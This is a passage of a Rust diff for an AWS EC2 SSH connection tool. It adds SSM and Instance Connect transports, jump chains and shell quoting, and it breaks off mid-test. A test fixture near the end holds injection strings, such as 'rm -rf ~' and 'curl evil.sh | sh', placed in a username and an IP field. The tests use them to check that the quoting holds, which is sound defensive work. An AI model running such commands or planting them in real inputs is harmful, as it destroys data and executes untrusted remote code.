@@ -1,63 +1,781 @@
-use std::process::Command;
+use std::collections::HashMap;
+use std::io::IsTerminal;
+use std::path::PathBuf;
+use std::process::{Command, Output};
 
+use crate::cache;
+use crate::config::JumpChain;
+use crate::credentials::RoleCredentials;
 use crate::instance_details::InstanceDetails;
+use crate::jump;
+use crate::rules::Rule;
 use crate::{config::Config, opts::ConnectOptions};
 
-use anyhow::Result;
+use anyhow::{anyhow, Result};
+use clap::ValueEnum;
+use serde::{Deserialize, Serialize};
+
+pub const DEFAULT_SSH_BINARY: &str = "ssh";
+pub const DEFAULT_AWS_BINARY: &str = "aws";
+pub const DEFAULT_PORT_TAG: &str = "ssh-port";
+const SSM_SSH_DOCUMENT: &str = "AWS-StartSSHSession";
+const SSM_COMMAND_DOCUMENT: &str = "AWS-StartInteractiveCommand";
+/* generated under the cache directory when no key is configured */
+const INSTANCE_CONNECT_KEY_NAME: &str = "id_ed25519";
+
+/// how instances are connected to
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, ValueEnum)]
+#[serde(rename_all = "kebab-case")]
+pub enum Transport {
+    /// ssh straight to the instance's address
+    #[default]
+    Ssh,
+    /// an ssm session manager session, no ssh involved
+    Ssm,
+    /// ssh tunnelled through an ssm session, addressed by instance id
+    SshOverSsm,
+    /// ssh tunnelled through an ec2 instance connect endpoint, addressed by instance id
+    Eice,
+}
 
 pub struct CommandGenerator {
     opts: ConnectOptions,
     config: Config,
     instance: InstanceDetails,
+    stdin_is_terminal: bool,
+    /* picked by `eice::resolve` when no endpoint id is configured: the endpoint, if the vpc has
+     * any, or why they couldn't be looked up */
+    instance_connect_endpoint: Option<std::result::Result<Option<String>, String>>,
+    /* bastions of the jump chain's tagged hops by tag, none if no running one was found, or why
+     * they couldn't be looked up. set by `resolve_bastions` & `jump::resolve` */
+    bastions: HashMap<String, std::result::Result<Option<InstanceDetails>, String>>,
+    /* the first config rule matching the instance & its position, already applied to `config` */
+    rule: Option<(usize, Rule)>,
+    /* credentials of the account the instance was found through, or why the account's role
+     * couldn't be assumed. set by `credentials::resolve` */
+    role_credentials: Option<std::result::Result<RoleCredentials, String>>,
 }
 
 impl CommandGenerator {
+    /// settings are taken from the options, then the first config rule matching the instance,
+    /// then the global config
     pub fn new(opts: &ConnectOptions, config: Config, instance: InstanceDetails) -> Result<Self> {
+        let rule = config
+            .rule(&instance)
+            .map(|(index, rule)| (index, rule.clone()));
+        let config = match &rule {
+            Some((_, rule)) => rule.apply(config),
+            None => config,
+        };
+
         Ok(Self {
             opts: opts.clone(),
             config,
             instance,
+            stdin_is_terminal: std::io::stdin().is_terminal(),
+            instance_connect_endpoint: None,
+            bastions: HashMap::new(),
+            rule,
+            role_credentials: None,
         })
     }
 
-    pub fn generate<'a>(&self, cmd: &'a mut Command) -> Result<&'a mut Command> {
-        let ssh_command = vec![
-            String::from("ssh -t"),
-            format!("{}@{}", self.user()?, self.address()?),
-            self.key()?,
-            self.jumphost()?,
-        ]
-        .into_iter()
-        .filter(|arg| !arg.is_empty())
-        .collect::<Vec<String>>()
-        .join(" ");
-
-        Ok(cmd
-            .arg("-c")
-            .arg(ssh_command)
+    pub fn instance(&self) -> &InstanceDetails {
+        &self.instance
+    }
+
+    /// the argv for the resolved transport, program first. every value is a separate
+    /// argument, so nothing in it is ever interpreted by a shell
+    pub fn args(&self) -> Result<Vec<String>> {
+        match self.transport() {
+            Transport::Ssh => self.ssh_args(None),
+            Transport::Ssm => self.ssm_args(),
+            Transport::SshOverSsm => self.ssh_args(Some(self.ssm_proxy_command()?)),
+            Transport::Eice => self.ssh_args(Some(self.eice_proxy_command()?)),
+        }
+    }
+
+    /// whether the instance connect endpoint to tunnel through still has to be looked up
+    pub fn needs_instance_connect_endpoint(&self) -> bool {
+        self.transport() == Transport::Eice
+            && self.configured_instance_connect_endpoint().is_none()
+            && self.instance_connect_endpoint.is_none()
+    }
+
+    pub fn set_instance_connect_endpoint(
+        &mut self,
+        endpoint_id: std::result::Result<Option<String>, String>,
+    ) {
+        self.instance_connect_endpoint = Some(endpoint_id);
+    }
+
+    /// looks up the bastions of the jump chain's hops selected by tag in the inventory. hops
+    /// without a bastion in it are left to `jump::resolve`
+    pub fn resolve_bastions(&mut self, inventory: &[InstanceDetails]) {
+        for tag in self.unresolved_bastion_tags() {
+            if let Some(bastion) = jump::find_bastion(inventory, &tag, &self.instance) {
+                self.bastions.insert(tag, Ok(Some(bastion.clone())));
+            }
+        }
+    }
+
+    /// tags of the jump chain's hops whose bastion hasn't been looked up yet
+    pub fn unresolved_bastion_tags(&self) -> Vec<String> {
+        match self.jump_chain() {
+            Ok(Some(chain)) => chain
+                .hops
+                .iter()
+                .filter_map(|hop| hop.bastion_tag.clone())
+                .filter(|tag| !self.bastions.contains_key(tag))
+                .collect(),
+            _ => Vec::new(),
+        }
+    }
+
+    pub fn set_bastion(
+        &mut self,
+        tag: String,
+        bastion: std::result::Result<Option<InstanceDetails>, String>,
+    ) {
+        self.bastions.insert(tag, bastion);
+    }
+
+    /// the configured account whose role credentials the aws cli still needs, if any
+    pub fn role_account(&self) -> Option<String> {
+        let profile = self.instance.profile.clone()?;
+        match self.uses_aws_cli()
+            && self.config.account(&profile).is_some()
+            && self.role_credentials.is_none()
+        {
+            true => Some(profile),
+            false => None,
+        }
+    }
+
+    pub fn set_role_credentials(
+        &mut self,
+        credentials: std::result::Result<RoleCredentials, String>,
+    ) {
+        self.role_credentials = Some(credentials);
+    }
+
+    /// environment variables the aws cli needs, i.e. the assumed role's credentials for
+    /// instances found through a configured account. empty otherwise
+    pub fn aws_env(&self) -> Result<Vec<(String, String)>> {
+        match &self.role_credentials {
+            Some(Ok(credentials)) => Ok(credentials.env()),
+            Some(Err(e)) => Err(anyhow!(
+                "Unable to assume the role of {}: {}",
+                self.instance.profile.clone().unwrap_or_default(),
+                e
+            )),
+            None => Ok(Vec::new()),
+        }
+    }
+
+    /* the ssm & eice transports & instance connect's key push all run the aws cli */
+    fn uses_aws_cli(&self) -> bool {
+        self.transport() != Transport::Ssh || self.instance_connect()
+    }
+
+    /* sets the `aws_env` on a command, in place of any profile the environment names */
+    fn set_aws_env(&self, cmd: &mut Command) -> Result<()> {
+        let env = self.aws_env()?;
+        if !env.is_empty() {
+            cmd.env_remove("AWS_PROFILE").envs(env);
+        }
+
+        Ok(())
+    }
+
+    /* --eice-id, then the `eice-id` config key */
+    fn configured_instance_connect_endpoint(&self) -> Option<String> {
+        self.opts.eice_id.clone().or(self.config.eice_id.clone())
+    }
+
+    /* --transport, then the `transport` config key */
+    fn transport(&self) -> Transport {
+        self.opts
+            .transport
+            .or(self.config.transport)
+            .unwrap_or_default()
+    }
+
+    /* a proxied connection is addressed by instance id & needs no jumphost */
+    fn ssh_args(&self, proxy_command: Option<String>) -> Result<Vec<String>> {
+        let mut args = vec![self.ssh_binary(), self.tty()];
+        args.extend(self.port()?);
+        args.extend(self.key()?);
+        for option in self.config.ssh_options.clone().unwrap_or_default() {
+            args.extend([String::from("-o"), option]);
+        }
+        let host = match proxy_command {
+            Some(proxy_command) => {
+                args.extend([
+                    String::from("-o"),
+                    format!("ProxyCommand={}", proxy_command),
+                ]);
+                self.instance_id()?
+            }
+            None => {
+                match self.jump_chain()? {
+                    Some(chain) => args.extend([
+                        String::from("-o"),
+                        format!("ProxyCommand={}", self.jump_proxy_command(chain)?),
+                    ]),
+                    None => args.extend(self.jumphost()?),
+                }
+                self.address()?
+            }
+        };
+        /* "--" keeps a destination starting with "-" from being read as an option */
+        args.push(String::from("--"));
+        args.push(format!("{}@{}", self.user()?, host));
+        args.extend(self.opts.command.clone());
+
+        Ok(args)
+    }
+
+    /* a remote command runs through the interactive command document, which hands it to a shell
+     * on the instance */
+    fn ssm_args(&self) -> Result<Vec<String>> {
+        let mut args = vec![
+            self.aws_binary(),
+            String::from("ssm"),
+            String::from("start-session"),
+            String::from("--target"),
+            self.instance_id()?,
+        ];
+        if !self.opts.command.is_empty() {
+            args.extend([
+                String::from("--document-name"),
+                String::from(SSM_COMMAND_DOCUMENT),
+                String::from("--parameters"),
+                serde_json::json!({ "command": [shell_join(&self.opts.command)] }).to_string(),
+            ]);
+        }
+        args.extend(self.aws_location_args());
+
+        Ok(args)
+    }
+
+    /* ssh runs its ProxyCommand through a shell, so every value in it is quoted. %h is the
+     * instance id & %p the port */
+    fn ssm_proxy_command(&self) -> Result<String> {
+        let mut args = vec![
+            self.aws_binary(),
+            String::from("ssm"),
+            String::from("start-session"),
+            String::from("--target"),
+            String::from("%h"),
+            String::from("--document-name"),
+            String::from(SSM_SSH_DOCUMENT),
+            String::from("--parameters"),
+            String::from("portNumber=%p"),
+        ];
+        args.extend(self.aws_location_args());
+
+        Ok(shell_join(&args))
+    }
+
+    fn eice_proxy_command(&self) -> Result<String> {
+        let vpc_id = self
+            .instance
+            .vpc_id
+            .clone()
+            .unwrap_or("its vpc".to_string());
+        let endpoint_id = match (
+            self.configured_instance_connect_endpoint(),
+            &self.instance_connect_endpoint,
+        ) {
+            (Some(endpoint_id), _) => endpoint_id,
+            (None, Some(Ok(Some(endpoint_id)))) => endpoint_id.clone(),
+            (None, Some(Err(e))) => {
+                return Err(anyhow!(
+                    "Unable to look up the EC2 Instance Connect Endpoints of {}: {}",
+                    vpc_id,
+                    e
+                ))
+            }
+            (None, _) => {
+                return Err(anyhow!(
+                    "No EC2 Instance Connect Endpoint found for {} in {}",
+                    self.instance_id()?,
+                    vpc_id
+                ))
+            }
+        };
+
+        let mut args = vec![
+            self.aws_binary(),
+            String::from("ec2-instance-connect"),
+            String::from("open-tunnel"),
+            String::from("--instance-id"),
+            String::from("%h"),
+            String::from("--remote-port"),
+            String::from("%p"),
+            String::from("--instance-connect-endpoint-id"),
+            endpoint_id,
+        ];
+        args.extend(self.aws_location_args());
+
+        Ok(shell_join(&args))
+    }
+
+    /* the instance's region & named profile. accounts reached by assuming a role aren't aws
+     * profiles, their credentials are handed to the aws cli through the environment instead
+     * (see `aws_env`) */
+    fn aws_location_args(&self) -> Vec<String> {
+        let mut args = Vec::new();
+        if let Some(region) = self.instance.region.clone() {
+            args.extend([String::from("--region"), region]);
+        }
+        if let Some(profile) = self.instance.profile.clone() {
+            if self.config.account(&profile).is_none() {
+                args.extend([String::from("--profile"), profile]);
+            }
+        }
+
+        args
+    }
+
+    fn instance_id(&self) -> Result<String> {
+        self.instance
+            .instance_id
+            .clone()
+            .ok_or(anyhow!("The instance has no instance id to connect to"))
+    }
+
+    fn aws_binary(&self) -> String {
+        match self.config.aws_binary.clone() {
+            Some(aws_binary) if !aws_binary.is_empty() => {
+                shellexpand::tilde(&aws_binary).to_string()
+            }
+            _ => String::from(DEFAULT_AWS_BINARY),
+        }
+    }
+
+    pub fn command(&self) -> Result<Command> {
+        let args = self.args()?;
+        let mut cmd = Command::new(&args[0]);
+        cmd.args(&args[1..])
             .stdin(std::process::Stdio::inherit())
-            .stdout(std::process::Stdio::inherit()))
+            .stdout(std::process::Stdio::inherit())
+            .stderr(std::process::Stdio::inherit());
+        self.set_aws_env(&mut cmd)?;
+
+        Ok(cmd)
+    }
+
+    /// the command as a line that can be pasted into a posix shell, preceded by the key push
+    /// when using instance connect. assumed role credentials aren't included
+    pub fn command_line(&self) -> Result<String> {
+        match self.prepare_line()? {
+            Some(prepare_line) => Ok(format!("{} && {}", prepare_line, shell_join(&self.args()?))),
+            None => Ok(shell_join(&self.args()?)),
+        }
     }
 
-    fn jumphost(&self) -> Result<String> {
-        match self.opts.jumphost.clone() {
-            Some(jumphost) => Ok(format!("-J {}", jumphost)),
-            None => match self.config.jumphost.clone() {
-                Some(jumphost) => match jumphost.as_str() {
-                    "" => Ok(String::new()),
-                    jmp => Ok(format!("-J {}", jmp)),
+    /// the `prepare_command` as a line that can be pasted into a posix shell, if any
+    pub fn prepare_line(&self) -> Result<Option<String>> {
+        match self.instance_connect() {
+            true => Ok(Some(shell_join(&self.instance_connect_args()?))),
+            false => Ok(None),
+        }
+    }
+
+    /// the command that has to succeed right before connecting: pushing the public key with
+    /// ec2 instance connect, which the instance accepts for 60 seconds. generates the key when
+    /// none is configured & it doesn't exist yet
+    pub fn prepare_command(&self) -> Result<Option<Command>> {
+        if !self.instance_connect() {
+            return Ok(None);
+        }
+
+        self.ensure_instance_connect_key()?;
+        let args = self.instance_connect_args()?;
+        let mut cmd = Command::new(&args[0]);
+        cmd.args(&args[1..]);
+        self.set_aws_env(&mut cmd)?;
+
+        Ok(Some(cmd))
+    }
+
+    /// runs the `prepare_command`, if any
+    pub fn prepare(&self) -> Result<()> {
+        let Some(mut cmd) = self.prepare_command()? else {
+            return Ok(());
+        };
+
+        let output = cmd.output()?;
+        match output.status.success() {
+            true => Ok(()),
+            false => Err(anyhow!(
+                "Unable to send the ssh public key to {}: {}",
+                self.instance_id()?,
+                failure_reason(&output)
+            )),
+        }
+    }
+
+    /// which config rule matched the instance & where every connection setting comes from, as
+    /// shell comments
+    pub fn explain(&self) -> String {
+        let rule_label = self.rule.as_ref().map(|(index, rule)| rule.label(*index));
+        let from_rule =
+            |set: fn(&Rule) -> bool| self.rule.as_ref().is_some_and(|(_, rule)| set(rule));
+        let source = |cli: bool, rule: bool, config: bool| match (cli, rule, config) {
+            (true, _, _) => String::from("command line"),
+            (_, true, _) => rule_label.clone().unwrap_or_default(),
+            (_, _, true) => String::from("config"),
+            _ => String::from("default"),
+        };
+        let is_set = |value: &Option<String>| value.as_ref().is_some_and(|value| !value.is_empty());
+
+        let port_tag = self
+            .config
+            .port_tag
+            .clone()
+            .unwrap_or(DEFAULT_PORT_TAG.to_string());
+        let port = match self.port() {
+            Ok(port) => port.get(1).cloned().unwrap_or(String::from("ssh default")),
+            Err(e) => e.to_string(),
+        };
+        let rule_port = from_rule(|rule| rule.port.is_some());
+        let port_source = match self.opts.port.is_none()
+            && !rule_port
+            && self.instance.tags.contains_key(&port_tag)
+        {
+            true => format!("{} tag", port_tag),
+            false => source(
+                self.opts.port.is_some(),
+                rule_port,
+                self.config.port.is_some(),
+            ),
+        };
+        let jump = match (self.jump_chain(), self.jumphost()) {
+            (Ok(Some(chain)), _) => format!("chain {}", chain.name),
+            (Ok(None), Ok(jumphost)) => jumphost.get(1).cloned().unwrap_or(String::from("none")),
+            (Err(e), _) | (_, Err(e)) => e.to_string(),
+        };
+        let transport = self
+            .transport()
+            .to_possible_value()
+            .map(|value| value.get_name().to_string())
+            .unwrap_or_default();
+
+        let settings = [
+            (
+                "user",
+                self.user().unwrap_or(String::from("none")),
+                source(
+                    is_set(&self.opts.user),
+                    from_rule(|rule| rule.default_user.is_some()),
+                    self.config.default_user.is_some(),
+                ),
+            ),
+            (
+                "private-key",
+                match self.instance_connect() {
+                    true => self
+                        .instance_connect_key()
+                        .map(|key| key.to_string_lossy().to_string())
+                        .unwrap_or_else(|e| e.to_string()),
+                    false => self.key_path().unwrap_or(String::from("none")),
+                },
+                match self.instance_connect() && self.key_path().is_none() {
+                    true => String::from("instance-connect"),
+                    false => source(
+                        self.opts.key.is_some(),
+                        from_rule(|rule| rule.private_key.is_some()),
+                        self.key_path().is_some(),
+                    ),
+                },
+            ),
+            ("port", port, port_source),
+            (
+                "address-type",
+                match is_set(&self.opts.address_type) {
+                    true => self.opts.address_type.clone().unwrap_or_default(),
+                    false => self
+                        .config
+                        .address_type
+                        .clone()
+                        .unwrap_or(String::from("private")),
+                },
+                source(
+                    is_set(&self.opts.address_type),
+                    from_rule(|rule| rule.address_type.is_some()),
+                    self.config.address_type.is_some(),
+                ),
+            ),
+            (
+                "jumphost",
+                jump,
+                source(
+                    is_set(&self.opts.jumphost) || self.opts.jump_chain.is_some(),
+                    from_rule(|rule| rule.jumphost.is_some() || rule.jump_chain.is_some()),
+                    is_set(&self.config.jumphost) || self.config.jump_chain.is_some(),
+                ),
+            ),
+            (
+                "ssh-options",
+                match &self.config.ssh_options {
+                    Some(options) if !options.is_empty() => options.join(", "),
+                    _ => String::from("none"),
                 },
-                None => Ok(String::new()),
+                source(
+                    false,
+                    from_rule(|rule| rule.ssh_options.is_some()),
+                    self.config.ssh_options.is_some(),
+                ),
+            ),
+            (
+                "transport",
+                transport,
+                source(
+                    self.opts.transport.is_some(),
+                    from_rule(|rule| rule.transport.is_some()),
+                    self.config.transport.is_some(),
+                ),
+            ),
+        ];
+
+        let name = self
+            .instance
+            .instance_name
+            .clone()
+            .or(self.instance.instance_id.clone())
+            .unwrap_or("None".to_string());
+        let mut lines = vec![format!(
+            "# {}: {}",
+            name,
+            match &rule_label {
+                Some(rule_label) => format!("{} matched", rule_label),
+                None => String::from("no rule matched"),
+            }
+        )];
+        lines.extend(settings.into_iter().map(|(setting, value, source)| {
+            format!("#   {:<13} {:<32} ({})", setting, value, source)
+        }));
+
+        lines.join("\n")
+    }
+
+    /* --instance-connect, then the `instance-connect` config key */
+    fn instance_connect(&self) -> bool {
+        /* a session manager session involves no ssh key to push */
+        (self.opts.instance_connect || self.config.instance_connect.unwrap_or(false))
+            && self.transport() != Transport::Ssm
+    }
+
+    /* the configured private key, or the generated one */
+    fn instance_connect_key(&self) -> Result<PathBuf> {
+        match self.key_path() {
+            Some(key) => Ok(PathBuf::from(key)),
+            None => Ok(cache::cache_dir()?
+                .join("instance-connect")
+                .join(INSTANCE_CONNECT_KEY_NAME)),
+        }
+    }
+
+    fn ensure_instance_connect_key(&self) -> Result<()> {
+        let key = self.instance_connect_key()?;
+        let public_key = PathBuf::from(format!("{}.pub", key.display()));
+        if public_key.exists() {
+            return Ok(());
+        }
+        if self.key_path().is_some() {
+            return Err(anyhow!(
+                "Instance connect needs the public key {} next to the private key",
+                public_key.display()
+            ));
+        }
+
+        if let Some(parent) = key.parent() {
+            cache::create_dir(parent)?;
+        }
+        let status = Command::new("ssh-keygen")
+            .args([
+                "-q",
+                "-t",
+                "ed25519",
+                "-N",
+                "",
+                "-C",
+                "blaze-ssh-instance-connect",
+                "-f",
+            ])
+            .arg(&key)
+            .status()?;
+        match status.success() {
+            true => Ok(()),
+            false => Err(anyhow!(
+                "Unable to generate an ssh key at {}",
+                key.display()
+            )),
+        }
+    }
+
+    fn instance_connect_args(&self) -> Result<Vec<String>> {
+        let mut args = vec![
+            self.aws_binary(),
+            String::from("ec2-instance-connect"),
+            String::from("send-ssh-public-key"),
+            String::from("--instance-id"),
+            self.instance_id()?,
+            String::from("--instance-os-user"),
+            self.user()?,
+            String::from("--ssh-public-key"),
+            format!("file://{}.pub", self.instance_connect_key()?.display()),
+        ];
+        if let Some(availability_zone) = self.instance.availability_zone.clone() {
+            args.extend([String::from("--availability-zone"), availability_zone]);
+        }
+        args.extend(self.aws_location_args());
+        if let Some(endpoint) = self.config.instance_connect_endpoint.clone() {
+            args.extend([String::from("--endpoint-url"), endpoint]);
+        }
+
+        Ok(args)
+    }
+
+    /* -t / -T win, otherwise a terminal is allocated only when there's one to attach it to */
+    fn tty(&self) -> String {
+        match (self.opts.tty, self.opts.no_tty, self.stdin_is_terminal) {
+            (true, _, _) => String::from("-t"),
+            (_, true, _) => String::from("-T"),
+            (_, _, true) => String::from("-t"),
+            (_, _, false) => String::from("-T"),
+        }
+    }
+
+    fn ssh_binary(&self) -> String {
+        match self.config.ssh_binary.clone() {
+            Some(ssh_binary) if !ssh_binary.is_empty() => {
+                shellexpand::tilde(&ssh_binary).to_string()
+            }
+            _ => String::from(DEFAULT_SSH_BINARY),
+        }
+    }
+
+    /* --jumphost wins over any chain, then --jump-chain, then the `jump-chain` config key */
+    fn jump_chain(&self) -> Result<Option<&JumpChain>> {
+        if self
+            .opts
+            .jumphost
+            .as_ref()
+            .is_some_and(|jumphost| !jumphost.is_empty())
+        {
+            return Ok(None);
+        }
+
+        match self
+            .opts
+            .jump_chain
+            .clone()
+            .or(self.config.jump_chain.clone())
+        {
+            Some(name) => match self.config.jump_chain(&name) {
+                Some(chain) => Ok(Some(chain)),
+                None => Err(anyhow!("No jump chain named {} is configured", name)),
             },
+            None => Ok(None),
         }
     }
 
-    fn key(&self) -> Result<String> {
-        let key = self.opts.key.clone().or(self.config.private_key.clone());
+    fn jump_proxy_command(&self, chain: &JumpChain) -> Result<String> {
+        let hops = chain
+            .hops
+            .iter()
+            .map(|hop| {
+                let bastion = match hop
+                    .bastion_tag
+                    .as_ref()
+                    .map(|tag| (tag, self.bastions.get(tag)))
+                {
+                    Some((tag, Some(Err(e)))) => {
+                        return Err(anyhow!(
+                            "Unable to look up the bastion tagged {}: {}",
+                            tag,
+                            e
+                        ))
+                    }
+                    Some((_, Some(Ok(bastion)))) => bastion.as_ref(),
+                    _ => None,
+                };
+                jump::Hop::resolve(hop, bastion)
+            })
+            .collect::<Result<Vec<_>>>()?;
+
+        jump::proxy_command(&self.ssh_binary(), &hops)
+    }
 
-        match key {
-            Some(key) => Ok(format!("-i {}", shellexpand::tilde(key.to_str().unwrap()))),
-            None => Ok(String::new()),
+    fn jumphost(&self) -> Result<Vec<String>> {
+        match self.opts.jumphost.clone().or(self.config.jumphost.clone()) {
+            Some(jumphost) if !jumphost.is_empty() => Ok(vec![String::from("-J"), jumphost]),
+            _ => Ok(Vec::new()),
+        }
+    }
+
+    /* --port, then the matching rule's port, then the instance's port tag, then the `port` config
+     * key */
+    fn port(&self) -> Result<Vec<String>> {
+        let port_tag = self
+            .config
+            .port_tag
+            .clone()
+            .unwrap_or(DEFAULT_PORT_TAG.to_string());
+        let tagged_port = match self.instance.tags.get(&port_tag) {
+            Some(port) => Some(port.trim().parse::<u16>().map_err(|_| {
+                anyhow!(
+                    "Invalid {} tag \"{}\" on {}",
+                    port_tag,
+                    port,
+                    self.instance.instance_id.clone().unwrap_or_default()
+                )
+            })?),
+            None => None,
+        };
+
+        let rule_port = self.rule.as_ref().and_then(|(_, rule)| rule.port);
+        match self
+            .opts
+            .port
+            .or(rule_port)
+            .or(tagged_port)
+            .or(self.config.port)
+        {
+            Some(port) => Ok(vec![String::from("-p"), port.to_string()]),
+            None => Ok(Vec::new()),
+        }
+    }
+
+    fn key(&self) -> Result<Vec<String>> {
+        /* only offer the pushed key, agent keys tried first could use up the server's
+         * MaxAuthTries */
+        if self.instance_connect() {
+            return Ok(vec![
+                String::from("-i"),
+                self.instance_connect_key()?.to_string_lossy().to_string(),
+                String::from("-o"),
+                String::from("IdentitiesOnly=yes"),
+            ]);
+        }
+
+        match self.key_path() {
+            Some(key) => Ok(vec![String::from("-i"), key]),
+            None => Ok(Vec::new()),
+        }
+    }
+
+    /* --key, then the `private-key` config key. `configure` writes an empty one */
+    fn key_path(&self) -> Option<String> {
+        match self.opts.key.clone().or(self.config.private_key.clone()) {
+            Some(key) if !key.as_os_str().is_empty() => {
+                Some(shellexpand::tilde(&key.to_string_lossy()).to_string())
+            }
+            _ => None,
         }
     }
 
@@ -67,14 +785,14 @@ impl CommandGenerator {
                 Some(address_type) => match address_type.as_str() {
                     "public" => Ok(self.instance.public_ip.clone().unwrap_or_default()),
                     "private" => Ok(self.instance.private_ip.clone().unwrap_or_default()),
-                    _ => Err(anyhow::anyhow!("Invalid address type")),
+                    _ => Err(anyhow!("Invalid address type")),
                 },
                 None => Ok(self.instance.private_ip.clone().unwrap_or_default()),
             },
             address_type => match address_type {
                 "public" => Ok(self.instance.public_ip.clone().unwrap_or_default()),
                 "private" => Ok(self.instance.private_ip.clone().unwrap_or_default()),
-                _ => Err(anyhow::anyhow!("Invalid address type")),
+                _ => Err(anyhow!("Invalid address type")),
             },
         }
     }
@@ -83,16 +801,45 @@ impl CommandGenerator {
         match self.opts.user.clone().unwrap_or_default().as_str() {
             "" => match self.config.default_user.clone() {
                 Some(default_user) => Ok(default_user.to_string()),
-                None => Err(anyhow::anyhow!("No username provided. Please use --user or configure default username in ~/.config/blssh/config.toml")),
+                None => Err(anyhow!("No username provided. Please use --user or configure default username in ~/.config/blssh/config.toml")),
             },
             username => Ok(username.to_string()),
         }
     }
 }
 
+/// what a failed command printed to stderr, or its exit status when it printed nothing
+pub fn failure_reason(output: &Output) -> String {
+    let stderr = String::from_utf8_lossy(&output.stderr).trim().to_string();
+    match stderr.is_empty() {
+        true => output.status.to_string(),
+        false => stderr,
+    }
+}
+
+/// an argv as a single posix shell command
+pub fn shell_join(args: &[String]) -> String {
+    args.iter()
+        .map(|arg| shell_quote(arg))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/* posix shell quoting: arguments made of safe characters only are left alone, anything else is
+ * single quoted, with embedded single quotes closed, escaped & reopened */
+pub fn shell_quote(arg: &str) -> String {
+    let safe = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
+    match !arg.is_empty() && arg.chars().all(safe) {
+        true => arg.to_string(),
+        false => format!("'{}'", arg.replace('\'', "'\\''")),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use std::collections::BTreeMap;
+    use std::path::PathBuf;
 
     #[test]
     fn jumphost_without_opt_uses_config_opt() {
@@ -102,6 +849,7 @@ mod tests {
             jumphost: Some(String::from("config-jumphost")),
             port: None,
             address_type: None,
+            ..Default::default()
         };
         let opts = ConnectOptions {
             user: None,
@@ -110,16 +858,21 @@ mod tests {
             address_type: None,
             port: None,
             search: None,
+            ..Default::default()
         };
         let instance = InstanceDetails {
             instance_id: Some(String::from("id")),
             instance_name: Some(String::from("name")),
             public_ip: None,
             private_ip: None,
+            ..Default::default()
         };
 
         let command_generator = CommandGenerator::new(&opts, config, instance).unwrap();
-        assert_eq!(command_generator.jumphost().unwrap(), "-J config-jumphost");
+        assert_eq!(
+            command_generator.jumphost().unwrap(),
+            vec!["-J", "config-jumphost"]
+        );
     }
 
     #[test]
@@ -130,6 +883,7 @@ mod tests {
             jumphost: Some(String::from("config-jumphost")),
             port: None,
             address_type: None,
+            ..Default::default()
         };
         let opts = ConnectOptions {
             user: None,
@@ -138,16 +892,21 @@ mod tests {
             address_type: None,
             port: None,
             search: None,
+            ..Default::default()
         };
         let instance = InstanceDetails {
             instance_id: Some(String::from("id")),
             instance_name: Some(String::from("name")),
             public_ip: None,
             private_ip: None,
+            ..Default::default()
         };
 
         let command_generator = CommandGenerator::new(&opts, config, instance).unwrap();
-        assert_eq!(command_generator.jumphost().unwrap(), "-J opt-jumphost");
+        assert_eq!(
+            command_generator.jumphost().unwrap(),
+            vec!["-J", "opt-jumphost"]
+        );
     }
 
     #[test]
@@ -158,6 +917,7 @@ mod tests {
             jumphost: None,
             port: None,
             address_type: None,
+            ..Default::default()
         };
         let opts = ConnectOptions {
             user: Some(String::from("opt-user")),
@@ -166,12 +926,14 @@ mod tests {
             address_type: None,
             port: None,
             search: None,
+            ..Default::default()
         };
         let instance = InstanceDetails {
             instance_id: Some(String::from("id")),
             instance_name: Some(String::from("name")),
             public_ip: None,
             private_ip: None,
+            ..Default::default()
         };
 
         let command_generator = CommandGenerator::new(&opts, config, instance).unwrap();
@@ -186,6 +948,7 @@ mod tests {
             jumphost: None,
             port: None,
             address_type: None,
+            ..Default::default()
         };
         let opts = ConnectOptions {
             user: None,
@@ -194,6 +957,7 @@ mod tests {
             address_type: None,
             port: None,
             search: None,
+            ..Default::default()
         };
 
         let instance = InstanceDetails {
@@ -201,6 +965,7 @@ mod tests {
             instance_name: Some(String::from("name")),
             public_ip: None,
             private_ip: None,
+            ..Default::default()
         };
 
         let command_generator = CommandGenerator::new(&opts, config, instance).unwrap();
@@ -215,6 +980,7 @@ mod tests {
             jumphost: None,
             port: None,
             address_type: Some(String::from("public")),
+            ..Default::default()
         };
         let opts = ConnectOptions {
             user: None,
@@ -223,12 +989,14 @@ mod tests {
             address_type: None,
             port: None,
             search: None,
+            ..Default::default()
         };
         let instance = InstanceDetails {
             instance_id: Some(String::from("id")),
             instance_name: Some(String::from("name")),
             public_ip: Some(String::from("public-ip")),
             private_ip: Some(String::from("private-ip")),
+            ..Default::default()
         };
 
         let command_generator = CommandGenerator::new(&opts, config, instance).unwrap();
@@ -243,6 +1011,7 @@ mod tests {
             jumphost: None,
             port: None,
             address_type: None,
+            ..Default::default()
         };
         let opts = ConnectOptions {
             user: None,
@@ -251,15 +1020,697 @@ mod tests {
             address_type: Some(String::from("public")),
             port: None,
             search: None,
+            ..Default::default()
         };
         let instance = InstanceDetails {
             instance_id: Some(String::from("id")),
             instance_name: Some(String::from("name")),
             public_ip: Some(String::from("public-ip")),
             private_ip: Some(String::from("private-ip")),
+            ..Default::default()
         };
 
         let command_generator = CommandGenerator::new(&opts, config, instance).unwrap();
         assert_eq!(command_generator.address().unwrap(), "public-ip");
     }
+
+    fn hostile_generator() -> CommandGenerator {
+        let config = Config {
+            default_user: Some(String::from("ec2-user; rm -rf ~")),
+            private_key: Some(PathBuf::from("/keys/my key's $(whoami).pem")),
+            jumphost: Some(String::from("bastion`id`")),
+            ..Default::default()
+        };
+        let instance = InstanceDetails {
+            private_ip: Some(String::from("10.0.0.1 && curl evil.sh | sh")),
+            ..Default::default()
+        };
+
+        CommandGenerator {
+            stdin_is_terminal: true,
+            ..CommandGenerator::new(&ConnectOptions::default(), config, instance).unwrap()
+        }
+    }
+
+    #[test]
+    fn hostile_values_stay_single_arguments() {
+        assert_eq!(
+            hostile_generator().args().unwrap(),
+            vec![
+                "ssh",
+                "-t",
+                "-i",
+                "/keys/my key's $(whoami).pem",
+                "-J",
+                "bastion`id`",
+                "--",
+                "ec2-user; rm -rf ~@10.0.0.1 && curl evil.sh | sh",
+            ]
+        );
+    }
+
+    #[test]
+    fn command_line_quotes_hostile_values() {
+        assert_eq!(
+            hostile_generator().command_line().unwrap(),
+            "ssh -t -i '/keys/my key'\\''s $(whoami).pem' -J 'bastion`id`' -- \
+             'ec2-user; rm -rf ~@10.0.0.1 && curl evil.sh | sh'"
+        );
+    }
+
+    #[test]
